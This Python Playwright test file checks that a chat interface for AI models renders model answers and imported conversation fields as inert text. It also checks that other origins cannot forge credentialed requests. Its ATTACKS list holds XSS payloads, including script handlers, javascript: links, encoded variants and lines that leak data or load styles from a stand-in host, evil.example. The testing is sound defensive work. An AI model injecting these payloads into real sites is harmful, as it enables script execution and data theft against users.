"""What a model says is text: nothing in it runs, loads or leads anywhere it should not."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from tests.browser.doing import done, say

if TYPE_CHECKING:
    from playwright.sync_api import Page
    from tests.browser.conftest import Visit
    from tests.browser.teller import Told

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#10;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![picture](https://evil.example/leak.png?secret)",
    "![picture](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '[x](https://a.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/y)}</style>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=https://evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "**<img src=x onerror=alert(1)>**\n\n# <svg onload=alert(1)>\n\n> <script>alert(1)</script>\n\n- <body onload=alert(1)>",
)
FOREIGN = "script, img, svg, iframe, form, style, link, base, object, embed, math, [onerror], [onload], [onmouseover]"


def harmless(page: Page, answer: object) -> None:
    """Nothing of the attack became anything but text, and links lead to the web alone; the page's watch does the rest."""
    markdown = page.locator(".answer .markdown")
    assert markdown.locator(FOREIGN).count() == 0
    links = markdown.locator("a")
    for index in range(links.count()):
        address = str(links.nth(index).get_attribute("href"))
        assert address.startswith(("http://", "https://", "mailto:"))


@pytest.mark.parametrize("start", range(0, len(ATTACKS), 8))
def test_what_the_simulator_repeats_is_never_run(visit: Visit, link: str, start: int) -> None:
    page = visit(link)
    for number, attack in enumerate(ATTACKS[start : start + 8], 1):
        say(page, attack)
        harmless(page, done(page, number))


def test_what_a_model_says_word_for_word_is_never_run(playground: Page) -> None:
    for number, attack in enumerate(ATTACKS, 1):
        say(playground, f"echo {attack}")
        harmless(playground, done(playground, number))
    assert "alert(1)" in playground.locator(".answer").first.inner_text()  # as text, it is all there


def test_names_and_reasons_of_others_are_text_too(playground: Page) -> None:
    attack = "<img src=x onerror=alert(1)>"
    playground.get_by_text("Additional fields", exact=True).click()
    conversation = {
        "kind": "outcrop-conversation",
        "conversation": {
            "title": attack,
            "columns": [
                {
                    "settings": {"modelId": attack, "system": attack},
                    "turns": [
                        {"role": "user", "id": "1", "content": [{"text": attack}, {"document": {"name": attack}}]},
                        {
                            "role": "assistant",
                            "id": "2",
                            "answer": {
                                "state": "failed",
                                "events": [],
                                "request": {"modelId": attack, "body": {"messages": []}},
                                "blocks": [{"kind": "tool", "id": attack, "name": attack, "input": attack}],
                                "error": {"code": attack, "message": attack},
                            },
                        },
                    ],
                }
            ],
        },
    }
    playground.get_by_label("A conversation to import").set_input_files(
        {"name": "x.json", "mimeType": "application/json", "buffer": json.dumps(conversation).encode()}
    )
    playground.get_by_text("Calls <img").wait_for()
    assert playground.locator("img[src=x]").count() == 0


def test_no_other_site_can_frame_the_page_or_use_its_session(visit: Visit, told: Told, link: str) -> None:
    signed_in = visit(told.link(), also=link.partition("/#")[0])
    signed_in.locator(".example").first.wait_for()
    other = signed_in.context.new_page()
    other.goto(link.partition("/#")[0])  # another origin of this machine, with the same cookie jar
    outcome = other.evaluate(
        """async (endpoint) => {
          const post = { method: "POST", credentials: "include" };
          const write = fetch(`${endpoint}/_outcrop/api/tickets`, { ...post, mode: "no-cors" });
          const marked = fetch(`${endpoint}/_outcrop/api/tickets`, { ...post, headers: { "x-outcrop-page": "1" } });
          return Promise.all([write, marked].map((p) => p.then((r) => r.status || r.type, () => "refused")));
        }""",
        told.endpoint,
    )
    assert set(outcome) <= {"refused", "opaque", 403}
    assert signed_in.evaluate("() => document.cookie") == ""
